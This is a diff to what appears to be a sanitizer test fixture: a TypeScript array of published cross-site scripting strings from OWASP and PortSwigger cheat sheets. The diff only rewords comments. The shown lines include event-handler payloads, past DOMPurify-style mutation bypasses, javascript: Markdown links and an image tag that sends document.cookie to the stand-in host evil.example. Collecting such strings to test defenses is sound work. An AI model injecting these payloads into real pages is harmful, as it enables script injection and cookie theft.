@@ -1,8 +1,8 @@
 // cspell:disable -- other people’s attacks, some in other languages
 /**
- * Attack strings that are published, most of them in OWASP's filter evasion cheat sheet, PortSwigger's cross-site
- * scripting cheat sheet, the HTML5 Security Cheatsheet, and in reports of ways around DOMPurify, marked and Angular.
- * What they load is at `evil.example`.
+ * Published attacks, mostly from OWASP's filter evasion cheat sheet, PortSwigger's cross-site scripting cheat sheet,
+ * the HTML5 Security Cheatsheet, and reports of bypasses of DOMPurify, marked and Angular. They load from
+ * `evil.example`.
  */
 export const publishedAttacks: readonly string[] = [
   // Event handlers that need no user
@@ -47,7 +47,7 @@ export const publishedAttacks: readonly string[] = [
   '</script><svg onload=alert(1)>',
   '--><svg onload=alert(1)>',
   ']]><script>alert(1)</script>',
-  // Ways around sanitisers that were open once
+  // Past bypasses of sanitizers
   '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>">',
   '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
   '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
@@ -89,7 +89,7 @@ export const publishedAttacks: readonly string[] = [
   '![go](javascript:alert(1) "x\\"onload=alert(1)")',
   '[![](https://evil.example/a.png "\\" onmouseover=alert(1)")](command:x)',
   '<img src="https://evil.example/${document.cookie}">',
-  // What watches, follows and asks
+  // Prefetches, styles and forms
   '<link rel=modulepreload href="https://evil.example/a.js">',
   '<link rel=prerender href="https://evil.example/">',
   '<link rel=manifest href="https://evil.example/m.json">',
